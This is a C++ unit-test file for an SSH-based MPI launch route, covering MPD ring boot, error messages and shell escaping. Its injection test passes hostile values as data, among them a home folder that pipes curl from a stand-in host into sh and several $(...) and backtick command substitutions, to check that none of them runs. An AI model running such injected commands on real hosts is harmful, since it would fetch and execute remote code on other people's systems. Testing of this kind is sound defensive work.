// Tests of the remote Linux route: the MPD ring boot and the remote run, command by command, with
// their traces, the mpdtrace check, console redirection, and the checks of what goes into a command.
#include <gtest/gtest.h>

#include "CompanionFakes.h"
#include "LaunchFixture.h"
#include "RemoteCommands.h"
#include "launch/StorageNode.h"

namespace {

using zep::fakes::CallsOf;
using zep::testing::MachineBlock;
using zep::testing::StdoutCapture;
using zep::testing::TaskBlock;

const char kKeys[] = "ValueSharedTarvik3DName=/opt/Tarvik3D/\nValueParallelWorkingFolder=D:\\Work\n";

class RemoteLinuxRun : public zep::testing::LaunchTest {
  protected:
    void SetUp() override {
        LaunchTest::SetUp();
        WriteAccount("runner", "secret");
    }

    // A run over two machines whose project folder, home folder (the installation share), command line
    // and program name are the given ones.
    void SetUpNamedRun(const std::string& projectName, const std::string& home,
                       const std::string& commandLine, const std::string& exe) {
        const std::string keys =
            "ValueSharedTarvik3DName=" + home + "\nValueParallelWorkingFolder=D:\\Work\n";
        ASSERT_EQ(
            SetUpRun(TaskBlock(11, 2) + MachineBlock({"alpha 1 /opt/T/", "beta 1 /opt/T/"}, {"1", "1"}, keys),
                     0, commandLine, exe, projectName),
            2);
    }

    // The commands sent to the storage node, the background launch last.
    static std::vector<std::string> RemoteCommands() {
        std::vector<std::string> commands;
        for (const auto& call : zep::fakes::Calls()) {
            if (call.name.find("SSH2_RemoteCommand") != std::string::npos) commands.push_back(call.args[3]);
        }
        return commands;
    }

    zep::testing::FixedClock clock_{zep::platform::LocalTime{2026, 12, 6, 9, 8, 7}};
};

// Both scenarios are compared with golden files: what is printed, then the SSH calls.
TEST_F(RemoteLinuxRun, TwoHostsBootTheRingWriteTheMachineFileAndLaunch) {
    ASSERT_EQ(
        SetUpRun(TaskBlock(11, 4) + MachineBlock({"alpha 2 /opt/T/", "beta 2 /opt/T/"}, {"1", "1"}, kKeys)),
        2);
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"alpha\nbeta\n");
    StdoutCapture out;
    EXPECT_EQ(Execute(), -1);
    EXPECT_EQ(out.Stop() + "----\n" + CallLog("CZEPSSH2Tool"), Golden("two_hosts.txt"));
    EXPECT_EQ(handler_->m_sMPIName, "/opt/Tarvik3D//IntelMPI/mpiexec.py");
    EXPECT_EQ(std::string(handler_->m_szUserName), "runner");
    // The password is wiped when the route ends.
    EXPECT_EQ(std::string(handler_->m_szPassword), "");
}

TEST_F(RemoteLinuxRun, TracesEveryStepAtLevelTwo) {
    const std::string keys = "ValueSharedTarvik3DName=/opt/T/\nValueMinPort=20000\nValueMaxPort=20100\n";
    SetUpRun(TaskBlock(11, 1) + MachineBlock({"n1 1 /opt/T/"}, {"1"}, keys), 2);
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"n1\n");
    zep::fakes::ScriptLauncherExitCode(3);
    handler_->m_bConsoleRedirection = true;
    StdoutCapture out;
    long jobId = 0;
    handler_->SpawnMPIProcess(jobId);
    EXPECT_EQ(out.Stop() + "----\n" + CallLog("CZEPSSH2Tool"), Golden("traced_steps.txt"));
}

TEST_F(RemoteLinuxRun, FailuresArePrintedBelowLevelTwoAndTheStepsGoOn) {
    SetUpRun(TaskBlock(11, 4) + MachineBlock({"node1 2 /opt/T/", "node10 2 /opt/T/"}, {"1", "1"}, kKeys));
    zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_CheckConnection", {-6});
    zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_RemoteCommandStdoutStderr", {0, 7});
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"node1\n");
    StdoutCapture out;
    Execute();
    EXPECT_EQ(out.Stop(),
              "Authentication for password failed.\n"
              "SSH2_RemoteCommandStdoutStderr(set MPD_PORT_RANGE to ~/.mpd.conf) failed, iErr=7\n"
              "Check mpd of [node10] ... Failed!\n");
    EXPECT_EQ(RemoteCommands().size(), 11u);

    // node1 passes when the trace output names only node10 (a plain substring test).
    zep::fakes::Reset();
    zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"node10\n");
    zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_CheckConnection", {-2});
    StdoutCapture second;
    Execute();
    EXPECT_EQ(second.Stop(), "Connect to SSH server at node1 failed.\n");

    const struct {
        int code;
        const char* text;
    } codes[] = {{-1, "Fail to initialize libssh2.\n"},
                 {-3, "Fail to establish SSH session.\n"},
                 {-4, "Authentication method (using password) is not available.\n"},
                 {-5, "Fail to request PTY.\n"},
                 {-7, "Fail to open a session.\n"},
                 {-8, "Fail to request a shell.\n"},
                 {-9, "SSH2_CheckConnection failed, but the symptom is unknown.\n"},
                 {4, "SSH2_CheckConnection failed, but the symptom is unknown.\n"}};
    for (const auto& c : codes) {
        zep::fakes::Reset();
        zep::fakes::ScriptRemoteStdout(L"mpdtrace", L"node1 node10");
        zep::fakes::ScriptResults("CZEPSSH2Tool::SSH2_CheckConnection", {c.code});
        StdoutCapture capture;
        handler_->BootMPDRing();
        EXPECT_EQ(capture.Stop(), c.text);
    }
}

// Every way a value of the project reaches the node's shell: each command must read as the designed
// words with the value as plain text in them, and nothing may run.
TEST_F(RemoteLinuxRun, NoValueOfTheProjectReachesTheRemoteShellAsCode) {
    const std::string line = "\"C:\\App\\*D:\\Work\\P*\"";
    const struct {
        const char* path;
        std::string project, home, commandLine, exe, configuration;
    } cases[] = {
        {"home folder", "P", "/opt/T;curl -s http://x.example/p|sh;#", line, "solver.exe", ""},
        {"home folder", "P", "/opt/a b$(touch Y)'q'`id`\\", line, "solver.exe", ""},
        {"project folder", "a`touch X`", "/opt/T", line, "solver.exe", ""},
        {"project folder", "a$(touch Y)", "/opt/T", line, "solver.exe", ""},
        {"project folder", "R&D", "/opt/T", line, "solver.exe", ""},
        {"project folder", "Tom's", "/opt/T", line, "solver.exe", ""},
        {"project folder", "x\"y;z $HOME", "/opt/T", line, "solver.exe", ""},
        {"command line", "P", "/opt/T", line + " $HOME \"a b\" 'q' R&D x;y \\\"in\\\" c:\\d\\ `id`",
         "solver.exe", ""},
        {"program name", "P", "/opt/T", line, "sol ver$(touch Z).exe", ""},
        {"launcher configuration", "P", "/opt/T", line, "solver.exe", "-wdir \"/r/a$(touch W) `id`\" "},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(std::string(c.path) + ": " + c.project + " | " + c.home + " | " + c.commandLine + " | " +
                     c.exe);
        // Windows has no folder names with a double quote, so no such project reaches the node from there.
        if (zep::testing::TextLineEnd() == "\r\n" && c.project.find('"') != std::string::npos) continue;
        zep::fakes::Reset();
        zep::fakes::ScriptConfigurationString(std::wstring(c.configuration.begin(), c.configuration.end()));
        SetUpNamedRun(c.project, c.home, c.commandLine, c.exe);
        StdoutCapture out;
        Execute();
        EXPECT_EQ(out.Stop(), "Check mpd of [alpha] ... Failed!\nCheck mpd of [beta] ... Failed!\n");
        const auto commands = RemoteCommands();
        EXPECT_EQ(commands.size(), 11u);
        EXPECT_EQ(zep::testing::CheckRemoteCommands(*handler_, commands), "");
    }

    // A host name, or a home folder that is no folder on the node, stops the route before any remote step.
    const struct {
        std::string host, home, why;
    } refused[] = {
        {"a$(reboot)", "/opt/T", "a valid host name"},   {"x;y", "/opt/T", "a valid host name"},
        {"b\"c", "/opt/T", "a valid host name"},         {"beta", "opt/T", "an absolute POSIX path"},
        {"beta", "C:\\App\\", "an absolute POSIX path"}, {"beta", "", "an absolute POSIX path"}};
    for (const auto& c : refused) {
        SetUpNamedRun("P", c.home, line, "solver.exe");
        handler_->m_ppTaskHostName[1] = c.host;
        handler_->m_sLinZep3DHomeDir = c.home;
        const std::string value = c.host != "beta" ? c.host : c.home;
        StdoutCapture out;
        Execute();
        EXPECT_EQ(out.Stop(), "BootMPDRing() failed: [" + value + "] is not " + c.why +
                                  "; the MPD ring is not booted.\nSpawnLinuxMPIProcess() failed: [" + value +
                                  "] is not " + c.why + "; the run is not started.\n");
        EXPECT_EQ(CallLog("CZEPSSH2Tool"), "");
    }
}

TEST_F(RemoteLinuxRun, LongHostListsAreSentWhole) {
    std::vector<std::string> entries;
    std::vector<std::string> weights;
    std::string expectedHosts;
    for (int i = 0; i < 120; ++i) {
        entries.push_back("node-with-a-rather-long-host-name-" + std::to_string(i) + " 1 /opt/T/");
        weights.push_back("1");
        expectedHosts += "node-with-a-rather-long-host-name-" + std::to_string(i) + "\\r\\n";
    }
    SetUpRun(TaskBlock(11, 120) + MachineBlock(entries, weights, kKeys));
    Execute();
    const auto commands = RemoteCommands();
    EXPECT_EQ(commands.at(4), "echo -e \"" + expectedHosts + "\" > \"/tmp/mpdhosts_20261206_090807.txt\"");
    EXPECT_EQ(commands.at(5).find("/opt/ZEPParallelService/IntelMPI/mpdboot.py -n 120 "), 0u);
    EXPECT_EQ(commands.at(9),
              "echo -e \"" + expectedHosts + "\" > \"" + handler_->m_sLinRunPath + "/machines.txt\"");

    // A host list that changes host more often than there are machines widens the ring's host table.
    SetUpRun(TaskBlock(11, 4) + MachineBlock({"a 2 /opt/T/", "b 2 /opt/T/"}, {"1", "1"}, kKeys));
    handler_->m_ppTaskHostName = {"a", "b", "a", "b"};
    Execute();
    EXPECT_EQ(RemoteCommands().at(4),
              "echo -e \"a\\r\\nb\\r\\na\\r\\nb\\r\\n\" > \"/tmp/mpdhosts_20261206_090807.txt\"");
    EXPECT_EQ(RemoteCommands().at(5).find("/opt/ZEPParallelService/IntelMPI/mpdboot.py -n 4 "), 0u);
}

TEST(StorageNode, HostNamesAndEscapes) {
    EXPECT_EQ(zep::launch::EscapeShellWord("/opt/Tarvik3D/IntelMPI/mpdboot.py"),
              "/opt/Tarvik3D/IntelMPI/mpdboot.py");
    EXPECT_EQ(zep::launch::EscapeShellWord("/a b;c\n"), "/a\\ b\\;c'\n'");
    // Plain launcher arguments keep their bytes, blanks and quotes included.
    const std::string plain =
        "-wdir /r -machinefile \"/Z/P/machines.txt\" -n 2  \"/opt/T/s.exe\" \"/opt/T*/Z/P*\" x";
    EXPECT_EQ(zep::launch::ShellLauncherArguments(plain), plain);
    EXPECT_EQ(zep::launch::ShellLauncherArguments("\"a\"\"b\" \\$x c\\"), "\"a\\\"b\" \"\\$x\" \"c\\\\\"");
    EXPECT_TRUE(zep::launch::IsValidHostName("node-1.cluster_a"));
    EXPECT_FALSE(zep::launch::IsValidHostName(""));
    EXPECT_FALSE(zep::launch::IsValidHostName("a b"));
    EXPECT_FALSE(zep::launch::IsValidHostName("h\xc3\xa9"));
    EXPECT_EQ(zep::launch::EscapeForDoubleQuotes("plain/path"), "plain/path");
    EXPECT_EQ(zep::launch::EscapeForDoubleQuotes("\"$`\\"), "\\\"\\$\\`\\\\");
}

// The first value that may not reach the node's shell stops the remote steps and is named.
TEST(StorageNode, RemoteTargetsNeedAStorageNodeValidHostsAndAnAbsoluteFolder) {
    const std::string host = "op failed: [%] is not a valid host name; not done.\n";
    const std::string path = "op failed: [%] is not an absolute POSIX path; not done.\n";
    struct Case {
        std::vector<std::string> hosts;
        std::string folder, printed, value;
    } cases[] = {{{"a", "", "b"}, "/opt/T/", "", ""},  // a task that no machine claimed has no host
                 {{}, "/opt/T/", host, ""},
                 {{"", "b"}, "/opt/T/", host, ""},
                 {{"a;b", "c d"}, "opt/", host, "a;b"},
                 {{"a", "", "c d"}, "opt/", host, "c d"},
                 {{"a"}, "opt/", path, "opt/"}};
    for (const Case& c : cases) {
        StdoutCapture out;
        const bool passed = zep::launch::CheckRemoteTargets(c.hosts, c.folder, "op", "not done");
        std::string expected = c.printed;
        if (!expected.empty()) expected.replace(expected.find('%'), 1, c.value);
        EXPECT_EQ(out.Stop(), expected) << c.folder;
        EXPECT_EQ(passed, expected.empty());
    }
}

}  // namespace
